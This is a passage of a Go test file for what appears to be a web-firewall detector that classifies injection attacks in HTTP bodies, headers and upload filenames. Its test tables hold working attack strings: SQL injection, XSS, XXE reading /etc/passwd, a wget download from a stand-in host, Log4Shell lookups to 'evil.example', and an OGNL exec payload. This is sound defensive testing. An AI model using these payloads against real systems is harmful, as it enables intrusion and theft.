package inject

import (
	"bytes"
	"encoding/base64"
	"strings"
	"testing"

	"github.com/valyala/fasthttp"
	"github.com/valyala/fastjson"
)

// soapEnvelope is GoTestWAF's SOAPBody placeholder (placeholder/soapbody.go):
// the payload, XML-escaped, in an element of a SOAP request.
func soapEnvelope(payload string) string {
	var b bytes.Buffer
	b.WriteString(`<?xml version="1.0" encoding="UTF-8"?>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"
	xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
	<soapenv:Header>
		<ns1:RequestHeader soapenv:actor="http://schemas.xmlsoap.org/soap/actor/next"
			soapenv:mustUnderstand="0" xmlns:ns1="https://www.google.com/apis/ads/publisher/v202002">
		</ns1:RequestHeader>
	</soapenv:Header>
	<soapenv:Body>
		<getAdUnitsByStatement xmlns="https://www.google.com/apis/ads/publisher/v202002">
			<filterStatement>
				<ab12><string>`)
	r := strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&#34;", "'", "&#39;")
	b.WriteString(r.Replace(payload))
	b.WriteString(`</string></ab12>
			</filterStatement>
		</getAdUnitsByStatement>
	</soapenv:Body>
</soapenv:Envelope>`)
	return b.String()
}

func bodyRequest(ct, body string) *fasthttp.Request {
	var req fasthttp.Request
	req.Header.SetMethod("POST")
	req.SetRequestURI("/api")
	if ct != "" {
		req.Header.SetContentType(ct)
	}
	req.SetBodyString(body)
	return &req
}

func TestBodies(t *testing.T) {
	pad := strings.Repeat("A", 128<<10)
	tests := []struct {
		name     string
		req      *fasthttp.Request
		want     Kind
		location string
	}{
		{"soap payload", bodyRequest("text/xml", soapEnvelope("confirm.call(null,1)")), KindXSS,
			"xml./Envelope/Body/getAdUnitsByStatement/filterStatement/ab12/string"},
		{"soap benign", bodyRequest("text/xml", soapEnvelope("O'Brien & Sons <sales@example.com>")), KindNone, ""},
		{"xml attribute", bodyRequest("application/xml", `<a><b href="javascript:alert(1)">x</b></a>`), KindXSS, "xml./a/b/@href"},
		{"xml cdata", bodyRequest("application/atom+xml", `<a><![CDATA[<script>alert(1)</script>]]></a>`), KindXSS, "xml./a"},
		{"xml doctype", bodyRequest("application/xml", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`), KindXXE, "xml"},
		{"xinclude namespace by character reference", bodyRequest("application/xml", `<a xmlns:x="http://www.w3.org/2001/X&#73;nclude"><x:include href="secrets.txt" parse="text"/></a>`), KindXXE, "xml./a"},
		{"xml comment ssi", bodyRequest("application/xml", `<a><!--#exec cmd="id"--></a>`), KindSSI, "xml./a"},
		{"xml benign", bodyRequest("application/xml", `<?xml version="1.0" encoding="UTF-8"?><!-- order --><order id="7"><item sku="A-1">Blue widget, large</item><note>Ring twice &amp; wait</note></order>`), KindNone, ""},
		{"xml text split by cdata", bodyRequest("application/xml", `<r><q>1' UNI<![CDATA[ON SELECT password FR]]>OM users--</q></r>`), KindSQLi, "xml./r/q"},
		{"xml text split by a processing instruction", bodyRequest("application/xml", `<r><q>&lt;scr<?x y?>ipt&gt;alert(1)&lt;/scr<?x?>ipt&gt;</q></r>`), KindXSS, "xml./r/q"},
		{"xml text split benign", bodyRequest("application/xml", `<r><q>Tom <![CDATA[&]]> Jerry<!-- c --> and <?pi x?>friends</q><n>O'<![CDATA[Brien]]></n></r>`), KindNone, ""},
		{"xml malformed rest", bodyRequest("application/xml", `<a><b <script>alert(1)</script>`), KindXSS, "xml"},
		{"graphql untyped json", bodyRequest("", `{"query": "IntrospectionQuery{__schema {queryType { name }}"}`), KindGraphQLIntrospection, "json./query"},
		{"untyped html", bodyRequest("", "<script>aaa</script>\n"), KindXSS, "body"},
		{"text/plain", bodyRequest("text/plain", "hello; wget http://x.example/a.sh"), KindCmdInjection, "body"},
		{"text/plain benign", bodyRequest("text/plain", "Hello, please deliver on Monday."), KindNone, ""},
		// A document sent as a form is read as the document too.
		{"json sent as a form", bodyRequest("application/x-www-form-urlencoded", `{"id":"1 OR 1=1"}`), KindSQLi, "json./id"},
		{"json with quotes sent as a form", bodyRequest("application/x-www-form-urlencoded", `{"a":"1' OR '1'='1' --"}`), KindSQLi, "json./a"},
		{"xml sent as a form", bodyRequest("application/x-www-form-urlencoded", `<a>1' OR '1'='1' --</a>`), KindSQLi, "xml./a"},
		{"json sent as a form benign", bodyRequest("application/x-www-form-urlencoded", `{"name":"Jane","note":"ring twice = knock"}`), KindNone, ""},
		{"binary skipped", bodyRequest("image/png", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR<script>alert(1)</script>"), KindNone, ""},
		{"octet-stream text skipped", bodyRequest("application/octet-stream", "' or 1=1--"), KindNone, ""},
		// Documents under a binary label are read as what they are.
		{"json as octet-stream", bodyRequest("application/octet-stream", `{"name":"1' UNION SELECT password FROM users-- -"}`), KindSQLi, "json./name"},
		{"json array as protobuf", bodyRequest("application/x-protobuf", "\xef\xbb\xbf [\"<script>alert(1)</script>\"]"), KindXSS, "json./0"},
		{"xml as octet-stream", bodyRequest("application/octet-stream", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`), KindXXE, "xml"},
		{"form as image", bodyRequest("image/jpeg", "id=1%27+UNION+SELECT+password+FROM+users--&x=1"), KindSQLi, "form.id"},
		{"html file as octet-stream", bodyRequest("application/octet-stream", "<!DOCTYPE html>\n<html><body><script>var x = 1;</script></body></html>"), KindNone, ""},
		{"xml doctype as octet-stream", bodyRequest("application/octet-stream", `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`), KindXXE, "xml"},
		{"xml without a declaration as octet-stream", bodyRequest("application/octet-stream", "<r><q>1' or '1'='1</q></r>"), KindSQLi, "xml./r/q"},
		{"xinclude without a declaration as octet-stream", bodyRequest("application/octet-stream", `<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>`), KindXXE, "xml./foo"},
		{"xml without a declaration as octet-stream benign", bodyRequest("application/octet-stream", "<order><name>O'Brien</name><qty>2</qty></order>\n"), KindNone, ""},
		{"markup-like binary skipped", bodyRequest("application/octet-stream", "<not xml at all ' or 1=1--"), KindNone, ""},
		{"json as octet-stream benign", bodyRequest("application/octet-stream", `{"name":"O'Brien","note":"ring twice"}`), KindNone, ""},
		{"form-looking binary benign", bodyRequest("application/octet-stream", "a=1&b=two"), KindNone, ""},
		// Parts of multipart types other than form-data, by their own types.
		{"multipart/related benign", bodyRequest("multipart/related; boundary=b", "--b\r\nContent-Type: application/json\r\n\r\n{\"name\":\"report.pdf\",\"parents\":[\"x\"]}\r\n--b\r\nContent-Type: text/plain\r\n\r\nhello\r\nworld\r\n--b--\r\n"), KindNone, ""},
		{"multipart/mixed benign", bodyRequest("multipart/mixed; boundary=batch_1", "--batch_1\r\nContent-Type: application/http\r\nContent-ID: 1\r\n\r\nGET /farm/v1/animals/pony\r\n\r\n--batch_1--\r\n"), KindNone, ""},
		{"multipart/related json part", bodyRequest("multipart/related; boundary=b", "--b\r\nContent-Type: application/json; charset=UTF-8\r\n\r\n{\"name\":\"1' or '1'='1' --\"}\r\n--b\r\nContent-Type: image/png\r\n\r\n\x89PNG\x00\r\n--b--\r\n"), KindSQLi, "json./name"},
		{"multipart/mixed text part", bodyRequest("multipart/mixed; boundary=b", "--b\r\n\r\n<script>alert(1)</script>\r\n--b--\r\n"), KindXSS, "body"},
		{"multipart/related binary part skipped", bodyRequest("multipart/related; boundary=b", "--b\r\nContent-Type: application/octet-stream\r\n\r\n' or 1=1--\r\n--b--\r\n"), KindNone, ""},
		{"multipart/mixed batch benign", bodyRequest("multipart/mixed; boundary=batch_foobarbaz", "--batch_foobarbaz\r\nContent-Type: application/http\r\nContent-ID: <item1:12930812@barnyard.example.com>\r\n\r\n"+
			"PATCH /farm/v1/animals/pony?fields=name,age\r\nContent-Type: application/json\r\nAuthorization: Bearer your_auth_token\r\nIf-Match: \"etag/pony\"\r\n\r\n{\r\n  \"animalName\": \"Pony\"\r\n}\r\n"+
			"--batch_foobarbaz\r\nContent-Type: application/http\r\nContent-ID: <item2:12930812@barnyard.example.com>\r\n\r\nGET /farm/v1/animals/sheep?fields=*\r\nIf-None-Match: \"etag/sheep\"\r\n\r\n"+
			"--batch_foobarbaz--\r\n"), KindNone, ""},
		{"multipart/mixed batch body attack", bodyRequest("multipart/mixed; boundary=b", "--b\r\nContent-Type: application/http\r\n\r\n"+
			"POST /v1/items HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"name\":\"1' UNION SELECT password FROM users--\"}\r\n--b--\r\n"), KindSQLi, "json./name"},
		{"multipart/mixed batch target attack", bodyRequest("multipart/mixed; boundary=b", "--b\r\nContent-Type: application/http\r\n\r\n"+
			"GET /v1/items?id=1%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1\r\n\r\n\r\n--b--\r\n"), KindSQLi, "body"},
		{"multipart/mixed batch header attack", bodyRequest("multipart/mixed; boundary=b", "--b\r\nContent-Type: application/http\r\n\r\n"+
			"GET /v1/items HTTP/1.1\r\nX-Note: <script>alert(1)</script>\r\n\r\n\r\n--b--\r\n"), KindXSS, "body"},
		{"nested multipart/alternative", bodyRequest("multipart/mixed; boundary=outer", "--outer\r\nContent-Type: multipart/alternative; boundary=inner\r\n\r\n"+
			"--inner\r\nContent-Type: text/plain\r\n\r\nhello\r\n--inner\r\nContent-Type: text/html\r\n\r\n<p>hello</p>\r\n--inner--\r\n\r\n--outer--\r\n"), KindNone, ""},
		{"nested multipart/alternative attack", bodyRequest("multipart/mixed; boundary=outer", "--outer\r\nContent-Type: multipart/alternative; boundary=inner\r\n\r\n"+
			"--inner\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>\r\n--inner--\r\n\r\n--outer--\r\n"), KindXSS, "body"},
		{"json in an octet-stream part", bodyRequest("multipart/related; boundary=b", "--b\r\nContent-Type: application/octet-stream\r\n\r\n{\"q\":\"1' UNION SELECT password FROM users--\"}\r\n--b--\r\n"), KindSQLi, "json./q"},
		{"multipart/alternative base64 part", bodyRequest("multipart/alternative; boundary=b", "--b\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\nPHNjcmlwdD5h\r\nbGVydCgxKTwvc2NyaXB0Pg==\r\n--b--\r\n"), KindXSS, "body"},
		{"json under a binary-looking prefix", bodyRequest("application/vnd.ms-foo+json", `{"q":"1' or '1'='1"}`), KindSQLi, "json./q"},
		{"svg", bodyRequest("image/svg+xml", `<svg><script>alert(1)</script></svg>`), KindXSS, "xml./svg/script"},
		{"multipart lf", bodyRequest("multipart/form-data; boundary=bee3", "--bee3\nContent-disposition: form-data; name=\"/static/img/../../etc/passwd\"\n\nTest\n--bee3--\n"),
			KindPathTraversal, "form./static/img/../../etc/passwd"},
		{"padded 128 KiB form value", bodyRequest("application/x-www-form-urlencoded", "a="+pad+"%27+UNION+SELECT+username+FROM+users"), KindSQLi, "form.a"},
		{"json escaped key", bodyRequest("application/json", `{"a\u002fb":{"c":["x","<script>alert(1)</script>"]}}`), KindXSS, "json./a~1b/c/1"},
		{"json malformed", bodyRequest("application/json", `{"a": "<script>alert(1)</script>"`), KindXSS, "json./a"},
		{"json __proto__ key", bodyRequest("application/json", `{"a":1,"__proto__":{"isAdmin":true}}`), KindPrototypePollution, "json./__proto__"},
		{"json __proto__ key in an array", bodyRequest("application/json", `[{"a":1},{"__proto__":{"x":1}}]`), KindPrototypePollution, "json./1/__proto__"},
		{"json constructor prototype keys", bodyRequest("application/json", `{"user":{"constructor":{"prototype":{"isAdmin":true}}}}`), KindPrototypePollution, "json./user/constructor/prototype"},
		{"json constructor key benign", bodyRequest("application/json", `{"constructor":"Ford","prototype":"X1","car":{"constructor":{"name":"x"},"__typename":"Car","__v":0}}`), KindNone, ""},
		{"json $type with a BSON type number", bodyRequest("application/json", `{"user":"admin","pass":{"$type":2}}`), KindNoSQL, "json./pass/$type"},
		{"json $type with type numbers", bodyRequest("application/json", `{"pass":{"$type" : [2, 16]}}`), KindNoSQL, "json./pass/$type"},
		{"json $type of .NET benign", bodyRequest("application/json", `{"$type":"App.Models.Dog, App","name":"Rex","owner":{"$type":"App.Person, App"}}`), KindNone, ""},
		{"form name $type in brackets", bodyRequest("application/x-www-form-urlencoded", "user=admin&pass[$type]=2"), KindNoSQL, "form.pass[$type]"},
		{"form name operator in brackets", bodyRequest("application/x-www-form-urlencoded", "user=admin&pass[$ne]=1"), KindNoSQL, "form.pass[$ne]"},
		{"form name operator in dot notation", bodyRequest("application/x-www-form-urlencoded", "user=admin&pass.$ne=1"), KindNoSQL, "form.pass.$ne"},
		{"form name operator in dot notation nested", bodyRequest("application/x-www-form-urlencoded", "user.$where.x=1"), KindNoSQL, "form.user.$where.x"},
		{"form name with a dollar benign", bodyRequest("application/x-www-form-urlencoded", "price.$usd=1&a.$nex=2"), KindNone, ""},
		{"query name constructor prototype", bodyRequest("application/x-www-form-urlencoded", "constructor[prototype][isAdmin]=1"), KindPrototypePollution, "form.constructor[prototype][isAdmin]"},
		{"json malformed after", bodyRequest("application/json", `{"a": "ok", "b": <script>alert(1)</script>}`), KindXSS, "body"},
	}
	d := mustNew(t, Options{})
	var sc Scratch
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := d.Inspect(&sc, tc.req, nil)
			if r.Kind != tc.want || string(r.Location) != tc.location {
				t.Errorf("%v (%s) at %q; want %v at %q", r.Kind, r.Rule, r.Location, tc.want, tc.location)
			}
			if r.Truncated {
				t.Errorf("truncated")
			}
		})
	}
}

// TestJSONScanMatchesWalk: the streaming reader inspects the same values
// as the walk of a parsed document, and names the same locations.
func TestJSONScanMatchesWalk(t *testing.T) {
	docs := []string{order1K, `[]`, `{}`, `"<script>alert(1)</script>"`, `[1,true,null,{"a":[[],[{"b":"c"}]]}]`,
		`{"k\"ey":"v\\u00e9\ud83d\ude00","":"","x":[" ' or 1=1--"]}`, `{"a":{"b":{"c":{"d":"x","e":"javascript:alert(1)"}}}}`,
		`{"tags":["a","b"],"deep":[[[["${jndi:ldap://x/a}"]]]]}`, `{"a":[{"constructor":{"x":1,"prototype":{"y":2}}}]}`,
		`{"constructor":["prototype"],"b":{"__proto__":1}}`, `{"a":"x","pass":{"$type":2}}`, `{"$type":"A.B, C"}`}
	for _, b := range variedOrders(50) {
		docs = append(docs, string(b))
	}
	// Two detectors: each has its own clean cache, which changes Bytes.
	da, db := mustNew(t, Options{}), mustNew(t, Options{})
	var a, b Scratch
	for _, doc := range docs {
		ra := da.InspectJSONBytes(&a, []byte(doc))
		rb := db.InspectJSON(&b, fastjson.MustParse(doc))
		if ra.Kind != rb.Kind || ra.Values != rb.Values || ra.Bytes != rb.Bytes || !bytes.Equal(ra.Location, rb.Location) {
			t.Errorf("%.60q: scan %v at %q (%d values, %d bytes); walk %v at %q (%d, %d)",
				doc, ra.Kind, ra.Location, ra.Values, ra.Bytes, rb.Kind, rb.Location, rb.Values, rb.Bytes)
		}
	}
}

// Headers a browser and a mobile app send, as captured from Chrome 120 and
// an Android app on OkHttp: with AllHeaders, none is flagged.
var browserHeaders = [][2]string{
	{"Host", "shop.example.com"},
	{"Connection", "keep-alive"},
	{"sec-ch-ua", `"Not_A Brand";v="8", "Chromium";v="120", "Google Chrome";v="120"`},
	{"sec-ch-ua-mobile", "?0"},
	{"sec-ch-ua-platform", `"Linux"`},
	{"Upgrade-Insecure-Requests", "1"},
	{"User-Agent", chromeUA},
	{"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7"},
	{"Sec-Fetch-Site", "same-origin"},
	{"Sec-Fetch-Mode", "navigate"},
	{"Sec-Fetch-User", "?1"},
	{"Sec-Fetch-Dest", "document"},
	{"Referer", "https://shop.example.com/products/42?ref=home&utm_source=news%20letter"},
	{"Accept-Encoding", "gzip, deflate, br"},
	{"Accept-Language", "en-GB,en;q=0.9,fr;q=0.8"},
	{"Cookie", "session=3f2a9c1e7b6d4a58; theme=dark; _ga=GA1.1.123456789.1700000000; _ga_X1Y2Z3=GS1.1.1700000000.1.0.1700000000.0.0.0; " +
		"__Host-next-auth.csrf-token=3d6f0a%7C9b1e; __Secure-next-auth.session-token=eyJhbGciOiJkaXIifQ..abc; AWSALB=Xb1wZ+/abc==; " +
		"JSESSIONID=node01abc.node0; wp-settings-time-1=1700000000; _gcl_au=1.1.1234.1700000000; cf_clearance=Ab1.2-1700000000-0-1; " +
		"__stripe_mid=0f9a6b1c-2d3e; XSRF-TOKEN=eyJpdiI6Ik; laravel_session=eyJpdiI6; PHPSESSID=u3k9; csrftoken=Yp4t; connect.sid=s%3Aabc.def; " +
		"ASP.NET_SessionId=x2y3; .AspNetCore.Cookies=CfDJ8; __cf_bm=abc.def-1700000000-0-AQ==; OptanonAlertBoxClosed=2024-01-15T10:20:30.000Z"},
	{"If-None-Match", `W/"5e-1a2b3c"`},
	{"If-Modified-Since", "Wed, 21 Oct 2015 07:28:00 GMT"},
	{"Cache-Control", "max-age=0"},
	{"Origin", "https://shop.example.com"},
	{"Priority", "u=0, i"},
	{"DNT", "1"},
	{"Sec-CH-UA-Full-Version-List", `"Not_A Brand";v="8.0.0.0", "Chromium";v="120.0.6099.109", "Google Chrome";v="120.0.6099.109"`},
	{"Sec-CH-UA-Arch", `"x86"`},
	// Chrome and Edge 89-103 put this brand first; read whole, it is SQL.
	{"Sec-CH-UA-Model", `" Not A;Brand";v="99", "Chromium";v="101", "Google Chrome";v="101"`},
	{"Sec-CH-UA-WoW64", `?0`},
	{"Sec-Purpose", "prefetch;prerender"},
	{"Range", "bytes=0-1023, 2048-"},
	{"If-Match", `"xyzzy", "r2d2xxxx", W/"c3piozzzz"`},
	{"If-Range", `"737060cd8c284d8af7ad3082f209582d"`},
	{"Access-Control-Request-Method", "PUT"},
	{"Access-Control-Request-Headers", "content-type, x-requested-with, authorization"},
	{"Content-Type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"},
	{"Pragma", "no-cache"},
	{"Forwarded", `for="[2001:db8:cafe::17]:4711";proto=https;by=_hidden, for=192.0.2.43`},
	{"Via", "1.1 vegur, 1.1 varnish (Varnish/7.4), HTTP/1.1 proxy.example.com:3128"},
	{"X-Forwarded-Proto", "https"},
	{"X-Forwarded-Host", "shop.example.com:443"},
	{"X-Forwarded-Port", "443"},
	{"X-Real-IP", "203.0.113.7"},
	{"Tracestate", "congo=t61rcWkgMzE,rojo=00f067aa0ba902b7"},
	{"Baggage", "userId=alice,serverNode=DF%2028,isProduction=false;ttl=60"},
	{"X-Amzn-Trace-Id", "Root=1-67891233-abcdef012345678912345678;Parent=53995c3f42cd8ad8;Sampled=1"},
	{"Sentry-Trace", "771a43a4192642f0b136d5159a501700-b7ad6b7169203331-1"},
	{"B3", "80f198ee56343ba864fe8b2a57d3eff7-e457b5a2e4d86bd1-1-05e3ac9a4f6e3b90"},
	{"X-Cloud-Trace-Context", "105445aa7843bc8bf206b12000100000/1;o=1"},
	{"Uber-Trace-Id", "5b8aa5a2d2c872e8321cf37308d69df2:051581bf3cb55c13:0:1"},
	{"X-Request-Start", "t=1700000000123"},
	{"Accept-CH", "Sec-CH-UA-Platform-Version, Sec-CH-UA-Model"},
}

var mobileHeaders = [][2]string{
	{"Host", "api.example.com"},
	{"User-Agent", "okhttp/4.12.0"},
	{"Authorization", "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"},
	{"X-Api-Key", "ak_live_51HxW2bEl9dPq7Y0"},
	{"X-App-Version", "5.2.1 (build 1234)"},
	{"X-Device-Id", "3F2504E0-4F89-11D3-9A0C-0305E82C3301"},
	{"X-Device-Model", "Pixel 7 Pro; Android 14; en_GB"},
	{"X-Platform", "android/14"},
	{"X-Timezone", "Europe/London"},
	{"X-Locale", "en_GB"},
	{"X-Client-Info", `{"os":"android","version":"14","screen":"1440x3120","carrier":"O2 - UK"}`},
	{"X-Request-ID", "d4f1c9a2-7e1b-4c55-9a6e-2b9f0e3c1d77"},
	{"Traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"},
	{"X-Forwarded-For", "203.0.113.7, 198.51.100.2"},
	{"Idempotency-Key", "8e03978e-40d5-43e8-bc93-6894a57f9324"},
	{"X-Session-Token", base64.StdEncoding.EncodeToString([]byte("user=42;exp=1700000000;sig=abc"))},
	{"Accept", "application/json"},
	{"Accept-Encoding", "gzip"},
	{"Content-Type", "application/json; charset=utf-8"},
	{"X-Feature-Flags", "new_checkout=on,dark_mode=off;beta=1"},
	{"X-Referrer-Screen", "ProductDetail/42 > Cart"},
}

func TestAllHeaders(t *testing.T) {
	d := mustNew(t, Options{Headers: []string{AllHeaders}, ExcludeHeaders: []string{"X-Tenant-Secret"}})
	var sc Scratch
	for _, set := range []struct {
		name string
		hdrs [][2]string
	}{{"browser", browserHeaders}, {"mobile app", mobileHeaders}} {
		var req fasthttp.Request
		req.SetRequestURI("/api/v1/cart")
		for _, h := range set.hdrs {
			req.Header.Set(h[0], h[1])
		}
		if r := d.Inspect(&sc, &req, nil); r.Detected() {
			t.Errorf("%s headers: %v (%s) at %s", set.name, r.Kind, r.Rule, r.Location)
		}
	}
	attacks := []struct {
		name, header, value string
		want                Kind
	}{
		{"random header sqli", "X-7f3a9c", "1' UNION SELECT username, password FROM users--", KindSQLi},
		{"random header rce", "X-Cmd", "cmd=127.0.0.1 && ls /etc", KindCmdInjection},
		{"user-agent scanner", "User-Agent", "sqlmap/1.7.4#stable (https://sqlmap.org)", KindScanner},
		{"excluded credential", "Authorization", "Basic ' or 1=1--", KindNone},
		{"log4shell in a credential header", "X-Api-Key", "${jndi:ldap://x/a}", KindJNDI},
		{"log4shell in a bearer token", "Authorization", "Bearer ${jndi:ldap://x/a}", KindJNDI},
		{"log4shell in an excluded header", "X-Tenant-Secret", "${${lower:j}ndi:rmi://x/a}", KindJNDI},
		{"sqli in a basic user", "Authorization", "Basic YWRtaW4nIG9yICcxJz0nMTp4", KindSQLi},     // admin' or '1'='1:x
		{"sqli in a basic password", "Authorization", "Basic YWRtaW46JyBvciAnMSc9JzE=", KindSQLi}, // admin:' or '1'='1
		{"sqli in proxy basic credentials", "Proxy-Authorization", "basic eCcpIG9yIDE9MS0tIC06eQ==", KindSQLi},
		{"basic credentials", "Authorization", "Basic YWxpY2U6UEBzcyd3MHJkIzIwMjQhLS07fCY=", KindNone}, // a password of punctuation
		{"basic credentials of an email", "Authorization", "Basic amFuZS5kb2VAZXhhbXBsZS5jb206YzBycmVjdC1oMHJzZTtiNHR0ZXJ5J3N0QHBsZQ==", KindNone},
		{"bearer with a dollar", "Authorization", "Bearer abc$def{ghi}", KindNone},
		{"basic that is not base64", "Authorization", "Basic ${user}:x' or 1=1--", KindNone},
		{"excluded by option", "X-Tenant-Secret", "<script>alert(1)</script>", KindNone},
		{"fetch metadata", "Sec-Fetch-Dest", "<script>alert(1)</script>", KindXSS},
		{"sqli in a client hint string", "Sec-CH-UA", `"x' or '1'='1";v="1"`, KindSQLi},
		{"xss in an escaped client hint string", "Sec-CH-UA", `"\"><script>alert(1)</script>";v="1"`, KindXSS},
		{"client hint that is no list", "Sec-CH-UA", `not a list ' or 1=1--`, KindSQLi},
		{"log4shell in negotiation", "Accept-Language", "${jndi:ldap://evil.example/a}", KindJNDI},
		{"log4shell in tracing", "X-Correlation-Id", "${jndi:ldap://evil.example/a}", KindJNDI},
		{"sqli in forwarding", "X-Forwarded-For", "1' or '1'='1", KindSQLi},
		{"ognl in content type", "Content-Type", "%{(#_='multipart/form-data').(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('id'))}", KindCodeInjection},
	}
	for _, a := range attacks {
		var req fasthttp.Request
		req.SetRequestURI("/")
		req.Header.Set(a.header, a.value)
		r := d.Inspect(&sc, &req, nil)
		if r.Kind != a.want {
			t.Errorf("%s: %v (%s) at %s; want %v", a.name, r.Kind, r.Rule, r.Location, a.want)
		}
		if a.want != KindNone && string(r.Location) != "header."+strings.ToLower(a.header) {
			t.Errorf("%s: location %q", a.name, r.Location)
		}
	}
	// The default is every header; NamedHeaders leaves a random one alone.
	var req fasthttp.Request
	req.SetRequestURI("/")
	req.Header.Set("X-7f3a9c", "1' UNION SELECT username, password FROM users--")
	if r := mustNew(t, Options{}).Inspect(&sc, &req, nil); r.Kind != KindSQLi {
		t.Errorf("default headers: %v at %s; want sqli", r.Kind, r.Location)
	}
	if r := mustNew(t, Options{Headers: NamedHeaders}).Inspect(&sc, &req, nil); r.Detected() {
		t.Errorf("named headers: %v at %s", r.Kind, r.Location)
	}
	// Log4j logs any header: NamedHeaders still reads lookups in all.
	req.Header.Set("X-7f3a9c", "${jndi:ldap://evil.example/a}")
	if r := mustNew(t, Options{Headers: NamedHeaders}).Inspect(&sc, &req, nil); r.Kind != KindJNDI {
		t.Errorf("named headers, lookup in another: %v at %s; want jndi", r.Kind, r.Location)
	}
}

func TestBinaryMediaType(t *testing.T) {
	for _, tc := range []struct {
		mt   string
		want bool
	}{
		{"image/png", true}, {"Audio/ogg", true}, {"video/mp4", true}, {"font/woff2", true},
		{"application/octet-stream", true}, {"APPLICATION/PDF", true}, {"application/zip", true},
		{"application/gzip", true}, {"application/x-gzip", true}, {"application/zstd", true},
		{"application/x-protobuf", true}, {"application/protobuf", true}, {"application/grpc+proto", true},
		{"application/vnd.google.protobuf", true}, {"application/x-tar", true}, {"application/x-7z-compressed", true},
		{"application/wasm", true}, {"application/cbor", true}, {"application/msgpack", true},
		{"application/x-msgpack", true}, {"application/vnd.ms-excel", true},
		{"application/vnd.openxmlformats-officedocument.wordprocessingml.document", true},
		{"application/json", false}, {"application/x-www-form-urlencoded", false}, {"application/xml", false},
		{"application/", false}, {"application", false}, {"text/plain", false}, {"imag", false}, {"", false},
		{"multipart/form-data", false}, {"application/vnd.api+json", false},
		// A text suffix after a binary-looking prefix: parsed as JSON/XML.
		{"application/vnd.ms-foo+json", false}, {"application/octet-stream+json", false}, {"application/pdf+JSON", false},
		{"application/vnd.ms-foo+xml", false}, {"image/svg+xml", false},
	} {
		if got := binaryMediaType([]byte(tc.mt)); got != tc.want {
			t.Errorf("binaryMediaType(%q) = %v; want %v", tc.mt, got, tc.want)
		}
	}
}

// multipartFile is a multipart body with a field and a file part whose
// Content-Disposition parameters after name="f" are disp, holding content.
func multipartFile(disp, ctype, content string) *fasthttp.Request {
	return bodyRequest(`multipart/form-data; boundary="xYzZY"`,
		"--xYzZY\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nMy upload\r\n"+
			"--xYzZY\r\nContent-Disposition: form-data; name=\"f\"; "+disp+"\r\nContent-Type: "+ctype+"\r\n\r\n"+
			content+"\r\n--xYzZY--\r\n")
}

// TestMultipartFilenames: a file part's filename (and RFC 5987 filename*,
// percent-decoded) is inspected as the value form.<field>.filename; its
// content is not (an uploaded page may hold script).
func TestMultipartFilenames(t *testing.T) {
	tests := []struct {
		name     string
		disp     string
		content  string
		want     Kind
		location string
	}{
		{"traversal", `filename="../../etc/passwd"`, "x", KindPathTraversal, "form.f.filename"},
		{"traversal unquoted", `filename=../../../../etc/passwd`, "x", KindPathTraversal, "form.f.filename"},
		{"jndi", `filename="${jndi:ldap://x/a}"`, "x", KindJNDI, "form.f.filename"},
		{"xss", `filename="<script>alert(1)</script>.txt"`, "x", KindXSS, "form.f.filename"},
		{"sqli", `filename="x' UNION SELECT password FROM users--.txt"`, "x", KindSQLi, "form.f.filename"},
		{"rfc 5987", `filename*=UTF-8''..%2F..%2F..%2Fetc%2Fpasswd`, "x", KindPathTraversal, "form.f.filename"},
		{"rfc 5987 xss", `filename*=utf-8'en'%3Cscript%3Ealert(1)%3C%2Fscript%3E.txt`, "x", KindXSS, "form.f.filename"},
		{"rfc 5987 beside filename", `filename="a.txt"; filename*=UTF-8''x%27%20UNION%20SELECT%20password%20FROM%20users--`, "x", KindSQLi, "form.f.filename"},
		{"semicolon in quotes", `filename="a; ../../../etc/passwd"`, "x", KindPathTraversal, "form.f.filename"},
		{"quoted-pairs", `filename="\.\.\/\.\.\/\.\.\/etc\/passwd"`, "x", KindLFI, "form.f.filename"},
		{"quoted-pairs traversal", `filename="\.\.\/\.\.\/\.\.\/var\/www\/html\/x.php"`, "x", KindPathTraversal, "form.f.filename"},
		{"second filename", `filename="a.txt"; filename="../../etc/passwd"`, "x", KindPathTraversal, "form.f.filename"},
		{"benign", `filename="report 2024.pdf"`, "x", KindNone, ""},
		{"benign accents", `filename="résumé.docx"`, "x", KindNone, ""},
		{"benign rfc 5987", `filename*=UTF-8''r%C3%A9sum%C3%A9%20(final).docx`, "x", KindNone, ""},
		{"benign windows path", `filename="C:\Users\jane\Documents\Q3 report.xlsx"`, "x", KindNone, ""},
		{"benign quote", `filename="O'Brien's notes - draft #2.txt"`, "x", KindNone, ""},
		{"benign dotfile", `filename=".env.example"`, "x", KindNone, ""},
		// The content of a file is not inspected, text or not.
		{"file content", `filename="page.html"`, "<script>alert(1)</script>", KindNone, ""},
		// A file by filename* alone is a field to PHP: its content counts.
		{"filename* alone, content", `filename*=UTF-8''x.txt`, "1' OR '1'='1' --", KindSQLi, "form.f"},
		{"filename* beside filename, content", `filename="x.txt"; filename*=UTF-8''x.txt`, "1' OR '1'='1' --", KindNone, ""},
